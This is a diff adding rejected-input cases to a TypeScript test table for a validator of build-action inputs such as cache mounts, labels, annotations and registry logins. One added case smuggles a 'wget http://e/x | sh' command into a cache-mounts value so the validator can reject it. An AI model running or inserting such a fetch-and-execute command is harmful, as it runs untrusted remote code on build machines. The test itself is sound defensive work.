@@ -78,6 +78,13 @@ test.each<[string, string, RegExp?]>([
   ['endpoint', 'http://buildkitd:1234', /http:\/\/ is not a builder address/],
   ['qemu-image', 'Tonistiigi/Binfmt:latest'],
   ['cache-mounts-helper', 'busybox:1.36 extra'],
+  [
+    'cache-mounts',
+    '/go/pkg/mod\nid=x true; wget http://e/x | sh #',
+    /^cache-mounts: line 2: cache mount id is not/,
+  ],
+  ['cache-mounts', 'id=npm,uid=root', /line 1: cache mount uid is not decimal digits only/],
+  ['cache-mounts', 'uid=1000', /line 1: has no id or target/],
   ['builder', 'my builder'],
   ['target', '-runtime'],
   ['driver-opts', 'image'],
@@ -94,10 +101,17 @@ test.each<[string, string, RegExp?]>([
   ['tags', 'type=raw,value=x,priority=high'],
   ['flavor', 'latest=sometimes'],
   ['labels', 'com.example.x={{nope}}'],
+  ['labels', 'a=1\n=x', /^labels: line 2 has an empty key; write KEY=value$/],
+  ['annotations', '\n  = x', /^annotations: line 2 has an empty key; write KEY=value$/],
   ['annotations', 'weird:level:key=v'],
   // logins
   ['logins', 'ghcr.io onlyuser'],
   ['logins', '- registry: ghcr.io\n  colour: blue'],
+  [
+    'logins',
+    '[{registry: ghcr.io, username: me, Hunter2Secret}]',
+    /^logins: item 1 \(line 1\): unknown key; /,
+  ],
   // paths
   ['context', 'does-not-exist', /not a directory here/],
   ['file', 'build/Dockerfile.missing', /does not exist/],
